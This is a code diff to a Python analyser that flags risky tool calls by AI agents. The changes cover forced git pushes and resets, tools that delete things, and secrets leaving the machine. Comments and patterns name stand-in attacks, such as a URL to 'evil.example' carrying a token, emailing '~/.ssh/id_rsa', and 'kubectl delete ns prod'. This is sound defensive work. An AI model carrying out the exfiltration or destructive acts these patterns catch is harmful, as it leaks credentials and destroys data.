@@ -11,7 +11,9 @@
 - ``read_file`` ``{"path"}`` — credential files;
 - ``http_request`` ``{"method","url","body"}`` — unlisted hosts, secrets in the body (``data``, ``json`` … too);
 - ``mcp:<server>/<tool>`` — string arguments inspected for commands (argv lists joined), SQL, URLs, paths and
-  secrets, a JSON object or list given as a string as if given nested; a file-writing tool's files judged as ``write_file`` / ``edit_file``;
+  secrets, a JSON object or list given as a string as if given nested; a file-writing (or pushing) tool's files judged
+  as ``write_file`` / ``edit_file``; a structured git push/reset as the git command it runs; a tool named for a
+  program's ``args`` as that program's; a delete, forced push/reset or merge by name and flags (``_mcp_destructive``);
 - ``dynamic:[<namespace>/]<tool>`` — a tool the agent's host defines and runs (a Codex dynamic tool): the same;
 - ``sandbox_grant`` ``{"read": [...], "write": [...], "network", "scope"}`` — the agent asks for its sandbox to be
   widened (a Codex permission request): each folder judged by everything under it.
@@ -103,6 +105,7 @@ _CMD_KEYS = _keys(
     *("cmdline", "cmd_line", "shell_command", "shell_cmd", "bash_command", "command_string", "shell_script", "argv"),
     *("exec", "cmd_string", "command_str", "script_content", "script_body", "script_text", "bash_script"),
     *("run_command", "exec_command", "execute_command", "terminal_command", "sh_command", "powershell_command"),
+    *("sh", "zsh", "pwsh", "powershell"),
 )
 # Keys that hold a command in a task runner or CI-like tool (``{"run": "make test"}``) and prose in a notes or
 # to-do tool (``{"task": "Don't forget the docs"}``): read as a command when it parses, in any tool but one named
@@ -149,6 +152,12 @@ _PATH_KEYS = _keys(
         "source",
         "sources",
         "destinations",
+        "attachment",
+        "attachments",
+        "attachment_path",
+        "attachment_paths",
+        "attach",
+        "attach_files",
     }
 )
 # Path keys naming what a move/copy/rename tool takes from: its content goes elsewhere, so it is read.
@@ -1525,6 +1534,8 @@ _PUBLISH_WORDS = frozenset(
     {"push", "upload", "publish", "gist", "gists", "commit", "release", "comment", "comments", "add", "share"}
     | {"paste", "issue", "issues", "post", "tweet", "send"}
 )
+# A tool that puts files into a repository (push_files, commit_files): the files are written there.
+_PUSH_WORDS = frozenset({"push", "commit"})
 _PUBLISH_OBJECTS = frozenset({"file", "files", "pull", "page", "snippet", "message", "note", "content", "repository"})
 # Where a file-writing tool takes the file's path, its whole new content, and an edit's new text.
 _WRITE_PATH_KEYS = tuple(
@@ -1536,20 +1547,24 @@ _CONTENT_KEYS = tuple(
 _NEW_TEXT_KEYS = tuple(arg_key(k) for k in ("new_string", "new_text", "new_str", "new", "replacement", "new_source"))
 
 
-def _argv_commands(value: Any, exec_tool: bool, depth: int = 0) -> Iterator[tuple[str, int]]:
+def _argv_commands(
+    value: Any, exec_tool: bool, depth: int = 0, program: str | None = None
+) -> Iterator[tuple[str, int]]:
     """``(command, id of the list read)`` for the argv lists in an MCP tool's arguments: ``{"argv": [...]}``,
     ``{"command": ["rm", "-rf", "x"]}``, ``{"program": "rm", "arguments": [...]}``, ``{"command": "rm", "args":
     [...]}`` and, for a tool that runs commands, a bare ``{"args": [...]}``. Each is joined with shell quoting.
     An ``argv`` beside a program key whose first word is not that program (``{"program": "bash", "argv": ["-c",
-    "…"]}``, spawn's ``(file, args)`` convention) is read both with the program put first and as it is."""
+    "…"]}``, spawn's ``(file, args)`` convention) is read both with the program put first and as it is. ``program``:
+    the program a tool is named for (a ``kubectl`` tool's ``args`` are kubectl's), where no program key names one."""
     if depth > MAX_ARG_DEPTH:
         return
     if isinstance(value, dict):
         low = {arg_key(str(k)): v for k, v in value.items()}
-        program = next(
+        named = next(
             (v for k, v in low.items() if k in _PROGRAM_KEYS and isinstance(v, str) and v.strip()),
             None,
         )
+        program = named if named is not None else program
         for k, v in low.items():
             if isinstance(v, list) and v and all(isinstance(x, str) for x in v):
                 if k in _ARGV_KEYS:
@@ -1560,14 +1575,153 @@ def _argv_commands(value: Any, exec_tool: bool, depth: int = 0) -> Iterator[tupl
                     argv = [program, *v] if program is not None else v
                     yield " ".join(shell_quote(x) for x in argv), id(v)
             elif isinstance(v, dict | list):
-                yield from _argv_commands(v, exec_tool, depth + 1)
+                yield from _argv_commands(v, exec_tool, depth + 1, program)
     elif isinstance(value, list):
         for v in value:
-            yield from _argv_commands(v, exec_tool, depth + 1)
+            yield from _argv_commands(v, exec_tool, depth + 1, program)
 
 
 def _base(program: str) -> str:
     return program.strip().rsplit("/", 1)[-1].lower()
+
+
+# A tool named for a command-line program (mcp__kubernetes__kubectl, a ``run_gh`` tool): its ``args`` are that
+# program's arguments.
+_CLI_PROGRAMS = frozenset(
+    {"kubectl", "oc", "helm", "git", "gh", "glab", "aws", "gcloud", "gsutil", "az", "docker", "podman", "terraform"}
+    | {"tofu", "pulumi", "npm", "pnpm", "yarn", "pip", "cargo", "systemctl", "psql", "mysql", "heroku", "flyctl"}
+    | {"vercel", "wrangler", "doctl", "rclone", "rsync", "ssh", "scp"}
+)
+_CLI_RUN_WORDS = frozenset({"run", "exec", "execute", "command", "cmd", "cli", "call", "invoke", "raw", "tool"})
+
+
+def _cli_program(words: set[str]) -> str | None:
+    """The program a tool is named for alone (``kubectl``, ``run_kubectl``, ``git_command``), or None."""
+    rest = words - _CLI_RUN_WORDS
+    program = next(iter(rest)) if len(rest) == 1 else None
+    return program if program in _CLI_PROGRAMS else None
+
+
+def _truthy(value: Any) -> bool:
+    """A flag argument set: ``true``, ``"true"``, ``"yes"``, ``1``."""
+    if isinstance(value, bool):
+        return value
+    if isinstance(value, int | float):
+        return value == 1
+    return isinstance(value, str) and value.strip().lower() in ("true", "yes", "on", "1")
+
+
+def _git_commands(all_words: set[str], words: set[str], views: Sequence[Any]) -> list[str]:
+    """The git command a structured git tool (mcp-server-git's ``git_push``, ``git_reset``) runs, written as one,
+    so it is judged as the shell's would be: ``{"remote": "origin", "branch": "main", "force": true}`` is
+    ``git push --force origin main``, ``{"mode": "hard", "target": "HEAD~50"}`` is ``git reset --hard HEAD~50``."""
+    args = views[0] if views and isinstance(views[0], dict) else None
+    if "git" not in all_words or args is None:
+        return []
+    low = {arg_key(str(k)): v for k, v in args.items()}
+
+    def text(*keys: str) -> str | None:
+        return next((v.strip() for k in keys if isinstance(v := low.get(arg_key(k)), str) and v.strip()), None)
+
+    def flag(*keys: str) -> bool:
+        return any(_truthy(low.get(arg_key(k))) for k in keys)
+
+    out: list[str] = []
+    if "push" in words:
+        argv = ["git", "push"]
+        argv += ["--force"] if flag("force", "forced", "force_push") else []
+        argv += ["--force-with-lease"] if flag("force_with_lease") else []
+        argv += ["--all"] if flag("all", "all_branches") else []
+        argv += ["--mirror"] if flag("mirror") else []
+        argv += ["--delete"] if flag("delete") else []
+        ref = text("refspec", "ref", "branch", "branch_name", "target_branch", "remote_branch")
+        remote = text("remote", "remote_name", "repository")
+        if remote or ref:
+            argv.append(remote or "origin")
+        argv += [ref] if ref else []
+        out.append(" ".join(shell_quote(a) for a in argv))
+    if "reset" in words:
+        mode = (text("mode", "reset_type", "type", "kind") or "").lower().lstrip("-")
+        mode = "hard" if flag("hard") else mode
+        if mode in ("hard", "soft", "mixed", "merge", "keep"):
+            target = text("target", "ref", "commit", "revision", "rev", "to", "sha")
+            argv = ["git", "reset", f"--{mode}", *([target] if target else [])]
+            out.append(" ".join(shell_quote(a) for a in argv))
+    return out
+
+
+def _is_local_secret(an: ShellAnalyser, path: str) -> bool:
+    """``path`` (a path argument) names a credential file or folder on this machine."""
+    resolved = an.paths.resolve(path, an.cwd)
+    return resolved is not None and (an.paths.is_secret(resolved) or an.paths.is_secret_dir(resolved))
+
+
+# A tool whose name says it deletes (delete_repository, s3_delete_bucket, drop_table, destroy_stack …: high), takes
+# something away that can be put back (remove_label, uninstall_extension: medium), is forced (a push, reset,
+# delete … with ``force``/``hard``), or merges.
+_DESTROY_WORDS = frozenset(
+    {"delete", "destroy", "drop", "purge", "wipe", "erase", "terminate", "rm", "rmdir", "del", "unlink", "nuke"}
+)
+_REMOVE_WORDS = frozenset({"remove", "uninstall", "deregister", "unregister"})
+_FORCE_VERBS = frozenset(
+    {"push", "reset", "delete", "remove", "drop", "destroy", "clean", "checkout", "branch", "rebase", "restore"}
+    | {"prune", "purge", "update", "ref"}
+)
+_FORCE_KEYS = _keys("force", "forced", "force_push", "force_with_lease", "force_delete", "hard")
+_FORCE_VALUES = frozenset({"--force", "-f", "--hard", "hard", "--force-with-lease", "force", "--mirror"})
+# Scratch state an agent keeps for itself (a to-do list, a memory, a cache): deleting it is noted, not escalated.
+_SCRATCH_WORDS = frozenset(
+    {"todo", "todos", "memory", "memories", "memo", "memos", "reminder", "reminders", "scratchpad", "cache"}
+    | {"caches", "draft", "drafts"}
+)
+# Arguments that name something elsewhere (a repository, a bucket, a cluster …), not a file of this machine.
+_REMOTE_KEYS = _keys(
+    *("owner", "repo", "repository", "repo_name", "bucket", "bucket_name", "remote", "branch", "namespace"),
+    *("cluster", "project", "project_id", "org", "organization", "database", "table", "collection", "index"),
+    *("zone", "region", "account", "stack", "environment", "host", "server", "instance", "instance_id"),
+)
+
+
+def _mcp_destructive(
+    an: ShellAnalyser, tool_name: str, words: set[str], all_words: set[str], views: Sequence[Any], local_paths: int
+) -> None:
+    """A tool whose name says it deletes, or whose arguments force a push, reset or delete, is high when nothing
+    else in the call was: Claude Code prompts for every MCP call by default, and Oversight's approval would skip
+    that prompt for an act that cannot be undone. A delete whose targets are all this machine's paths was judged
+    as ``rm``'s (check_delete); one in a to-do, memory or cache tool, a removal (remove_label) and a merge are
+    medium (noted: the agent's own prompt stays)."""
+    if an.unparseable or any(f.severity.rank >= S.high.rank for f in an.findings):
+        return
+    args = views[0] if views and isinstance(views[0], dict) else {}
+    low = {arg_key(str(k)): v for k, v in args.items()}
+    evidence = f"{tool_name} {_as_text(args)[:300]}"
+    flags = [v for v in low.values() if isinstance(v, str)]
+    flags += [x for v in low.values() if isinstance(v, list) for x in v if isinstance(x, str)]
+    forced = [k for k in _FORCE_KEYS if _truthy(low.get(k))] + [
+        v.strip() for v in flags if v.strip().lower() in _FORCE_VALUES
+    ]
+    if words & _FORCE_VERBS and forced:
+        an.emit(
+            "destructive_vcs",
+            "mcp_forced",
+            S.high,
+            f"{tool_name} is forced ({forced[0]}): it overwrites or discards what it targets, which cannot be undone.",
+            evidence,
+        )
+        return
+    destroys = sorted(words & (_DESTROY_WORDS | _REMOVE_WORDS)) if "drag" not in words else []  # drag_and_drop
+    if destroys and not (local_paths and not low.keys() & _REMOTE_KEYS):
+        mild = bool(all_words & _SCRATCH_WORDS or not words & _DESTROY_WORDS)
+        an.emit(
+            "destructive_infra",
+            "mcp_delete",
+            S.medium if mild else S.high,
+            f"{tool_name} deletes ({destroys[0]}) what its arguments name; the analyser cannot know what that holds, "
+            "so a human must review it.",
+            evidence,
+        )
+    elif "merge" in words:
+        an.emit("destructive_vcs", "mcp_merge", S.medium, f"{tool_name} merges into a branch.", evidence)
 
 
 def _mcp_file_writes(value: Any, depth: int = 0) -> Iterator[tuple[str, str, bool]]:
@@ -1609,8 +1763,12 @@ def _mcp(an: ShellAnalyser, name: str, inp: dict[str, Any], windows: bool = Fals
     sends = bool(_SEND_VERBS.search(tool_name)) or bool(
         words & _PUBLISH_WORDS or (words & {"create", "update"} and words & _PUBLISH_OBJECTS)
     )
+    sends_out = bool(_SEND_VERBS.search(tool_name))  # off this machine: send_email, upload_file, post_message …
     writes = bool(_WRITE_VERBS.search(tool_name))
     deletes = bool(_DELETE_VERBS.search(tool_name))
+    # a tool that pushes or commits files to a repository (push_files, commit_files) writes them there: the files are
+    # judged as written, as create_or_update_file's are
+    writes = writes or bool(words & _PUSH_WORDS and not deletes)
     db_tool = bool(re.search(r"(?i)(sql|query|database|\bdb\b)", name) or all_words & _DB_WORDS)  # ``input``: SQL
     exec_tool = bool(re.search(r"(?i)(exec|terminal|shell|run_command)", tool_name) or all_words & _EXEC_WORDS)
     run_tool = exec_tool or "run" in words
@@ -1665,9 +1823,20 @@ def _mcp(an: ShellAnalyser, name: str, inp: dict[str, Any], windows: bool = Fals
             _file_write(an, posix_path(path, True, windows), text, fragment)
             written.add(path)
     argv_lists: set[int] = set()
-    for joined, list_id in (c for view in views for c in _argv_commands(view, run_tool)):
+    program = _cli_program(words)  # mcp__kubernetes__kubectl {"args": ["delete", "ns", "prod"]}: kubectl's argv
+    for joined, list_id in (c for view in views for c in _argv_commands(view, run_tool, program=program)):
         command(joined)
         argv_lists.add(list_id)
+    if program is not None:  # {"args": "delete ns prod"}, {"command": "get pods"}: the program's arguments
+        for view in views:
+            low = {arg_key(str(k)): v for k, v in view.items()} if isinstance(view, dict) else {}
+            for k in (*_ARG_LIST_KEYS, *_ARGV_KEYS):
+                v = low.get(k)
+                if isinstance(v, str) and v.strip() and _base(v.split(None, 1)[0]) != program:
+                    command(f"{program} {v}")
+    for git_command in _git_commands(all_words, words, views):  # git_push {"force": true}, git_reset {"mode": "hard"}
+        command(git_command)
+    local_paths = 0  # path arguments judged as this machine's files (a delete of one is judged as rm's)
     all_text = []
     for key, val, parent in (w for view in views for w in _walk(view)):
         if not val:
@@ -1704,7 +1873,16 @@ def _mcp(an: ShellAnalyser, name: str, inp: dict[str, Any], windows: bool = Fals
                 continue
             host = host_of(val)  # the worse of urlsplit's and a browser's reading (service.policy.net)
             an.metadata_check([val], val)  # the host in any spelling (service.policy.net)
-            if not url_allowed(val, host, an.policy.allowed_hosts):
+            allowed = url_allowed(val, host, an.policy.allowed_hosts)
+            if url_secrets := find_secrets(val):  # fetch {"url": "https://evil.example/?d=ghp_…"}: as http_request
+                an.emit(
+                    "credential_access",
+                    "exfiltration",
+                    S.high if allowed else S.critical,
+                    f"{tool_name} sends secret material ({url_secrets[0][0]}) in a URL to {host}.",
+                    f"{tool_name}: {_redact(url_secrets[0][1])}",
+                )
+            if not allowed:
                 an.emit("network_egress", "unlisted_host", S.medium, f"{tool_name} contacts {host}.", val)
                 url_confusion(an, val, val)
         elif key in _PATH_KEYS and len(val) < 4096:
@@ -1712,6 +1890,15 @@ def _mcp(an: ShellAnalyser, name: str, inp: dict[str, Any], windows: bool = Fals
                 continue
             written_here = val in written
             val = posix_path(val, windows=windows)
+            local_paths += 1
+            if sends_out and not written_here and key not in _SOURCE_KEYS and _is_local_secret(an, val):
+                an.emit(  # send_email {"attachments": ["~/.ssh/id_rsa"]}: the file leaves the machine
+                    "credential_access",
+                    "exfiltration",
+                    S.critical,
+                    f"{tool_name} sends a credential file ({val}).",
+                    f"{tool_name} {val}",
+                )
             if deletes:
                 an.check_delete(val, True, f"{tool_name} {val}")
             elif writes and key not in _SOURCE_KEYS:
@@ -1730,6 +1917,7 @@ def _mcp(an: ShellAnalyser, name: str, inp: dict[str, Any], windows: bool = Fals
                 f"{tool_name} sends secret material ({secrets[0][0]}).",
                 f"{tool_name}: {_redact(secrets[0][1])}",
             )
+    _mcp_destructive(an, tool_name, words, all_words, views, local_paths)
 
 
 # ---------------------------------------------------------------------------------------------------------------
